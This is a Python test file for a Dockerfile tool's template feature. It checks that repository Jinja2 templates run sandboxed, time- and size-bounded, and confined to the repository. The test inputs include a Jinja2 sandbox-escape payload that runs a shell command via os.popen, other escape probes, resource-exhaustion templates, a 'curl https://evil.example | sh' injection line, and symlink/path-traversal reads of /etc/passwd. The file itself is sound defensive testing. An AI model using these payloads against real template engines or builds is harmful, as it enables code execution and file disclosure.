"""Issue 10, templates: a repository's Jinja2 templates run sandboxed, bounded, and
check-config renders each one once."""

from __future__ import annotations

import os

import pytest

from dockermig.policy.render import TemplateError, render_line

from hostile import run_bounded

SERVICE = "FROM python:3.11-slim\nRUN pip install fastapi\nCMD [\"python\", \"app.py\"]\n"


def repo_with_template(tmp_path, source: str, name: str = "user.j2"):
    (tmp_path / ".dockermig.yaml").write_text("templates: tpl\n")
    (tmp_path / "tpl").mkdir(exist_ok=True)
    (tmp_path / "tpl" / name).write_text(source)
    (tmp_path / "Dockerfile").write_text(SERVICE)
    return tmp_path


@pytest.mark.parametrize("args", [("lint", "--format", "sarif", "Dockerfile"), ("fix", "--diff", "Dockerfile"),
                                  ("fix", "Dockerfile"), ("check-config", ".")])
def test_the_cycler_globals_escape_runs_nothing(tmp_path, args):
    proof = tmp_path / "ran"
    repo = repo_with_template(tmp_path, f'{{{{ cycler.__init__.__globals__.os.popen("id > {proof}").read() }}}}\n')
    done = run_bounded(*args, cwd=repo, timeout=60)
    assert not proof.exists()
    assert done.returncode == 2, done.stdout + done.stderr
    assert "tpl/user.j2" in done.stderr and "Traceback" not in done.stderr
    assert (tmp_path / "Dockerfile").read_text() == SERVICE


ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context }}",
    "{{ lipsum.__globals__ }}",
    "{{ namespace() }}",
    "{{ range(3) | list }}",
    "{{ joiner() }}",
    "{{ kw.__class__ }}",
    "{{ user | attr('__class__') }}",
]
BOMBS = [
    '{{ "x" * 999999999 }}',
    "{{ 9 ** 99999999 }}",
    '{{ ["x"] * 99999999 }}',
    '{{ (user ~ user) * 100000 }}',
    '{{ "ab" | list | join("' + "y" * 60000 + '") | join("' + "z" * 60000 + '") }}',
    '{% macro f(s) %}{{ f(s ~ s ~ s ~ s) }}{% endmacro %}{{ f("xxxxxxxx") }}',
    '{{ "x" | center(999999999) }}',
    '{{ "%999999999s" | format("x") }}',
]


@pytest.mark.parametrize("source", ESCAPES + BOMBS)
def test_no_way_out_of_the_sandbox_and_no_huge_values(tmp_path, source):
    (tmp_path / "user.j2").write_text(source)
    with pytest.raises(TemplateError, match="user.j2"):
        render_line("user.j2", tmp_path, user="appuser")


def test_nested_loops_are_stopped_by_the_time_limit(tmp_path):
    long = "x" * 2000
    source = (f'{{% for a in "{long}" %}}{{% for b in "{long}" %}}{{% for c in "{long}" %}}'
              "{% endfor %}{% endfor %}{% endfor %}USER {{ user }}\n")
    repo = repo_with_template(tmp_path, source)
    done = run_bounded("fix", "--diff", "Dockerfile", cwd=repo, timeout=60)
    assert done.returncode == 2
    assert "tpl/user.j2: took longer than 2s to render" in done.stderr


def test_an_inserted_line_cannot_bring_instructions(tmp_path):
    repo = repo_with_template(tmp_path, "USER {{ user }}\nRUN curl https://evil.example | sh\n")
    done = run_bounded("fix", "Dockerfile", cwd=repo, timeout=60)
    assert done.returncode == 2 and "renders more than one line" in done.stderr
    assert "evil" not in (tmp_path / "Dockerfile").read_text()
    done = run_bounded("check-config", ".", cwd=repo, timeout=60)
    assert done.returncode == 2 and "renders more than one line" in done.stderr


def test_a_template_cannot_read_outside_the_repository(tmp_path):
    (tmp_path / "repo").mkdir()
    repo = repo_with_template(tmp_path / "repo", "USER {{ user }}\n")
    (repo / ".git").mkdir()
    (repo / "tpl" / "user.j2").unlink()
    (repo / "tpl" / "user.j2").symlink_to("/etc/passwd")
    (repo / "tpl" / "service-port.j2").write_text('{% include "../../../etc/hostname" %}')
    done = run_bounded("fix", "--diff", "Dockerfile", cwd=repo, timeout=60)
    assert done.returncode == 2 and "outside the repository" in done.stderr
    assert "root:" not in done.stdout
    done = run_bounded("check-config", ".", cwd=repo, timeout=60)
    assert done.returncode == 2
    assert "outside the repository" in done.stderr and "service-port.j2: not found" in done.stderr


def test_a_fifo_template_is_an_error_not_a_hang(tmp_path):
    repo = repo_with_template(tmp_path, "")
    (repo / "tpl" / "user.j2").unlink()
    os.mkfifo(repo / "tpl" / "user.j2")
    done = run_bounded("fix", "--diff", "Dockerfile", cwd=repo, timeout=30)
    assert done.returncode == 2 and "not a regular file (a FIFO)" in done.stderr


def test_check_config_renders_every_template_once(tmp_path):
    repo = repo_with_template(tmp_path, "{{ kw.USER }} {{ user }}\n")
    (repo / "tpl" / "apt-install.j2").write_text("apt-get install -y {{ packages | join(' ') }}\n")
    done = run_bounded("check-config", ".", cwd=repo, timeout=60)
    assert done.returncode == 0, done.stderr
    (repo / "tpl" / "service-port.j2").write_text("ENV SERVICE_PORT={{ prot }}\n")  # a typo: StrictUndefined
    (repo / "tpl" / "other.j2").write_text("{% if %}\n")  # does not compile
    done = run_bounded("check-config", ".", cwd=repo, timeout=60)
    assert done.returncode == 2
    assert "service-port.j2: 'prot' is undefined" in done.stderr and "other.j2" in done.stderr


def test_the_built_in_templates_still_render():
    assert render_line("user.j2", user="appuser") == "USER appuser"
    assert render_line("apt-install.j2", packages=["curl", "git"]).startswith("apt-get update && apt-get install")
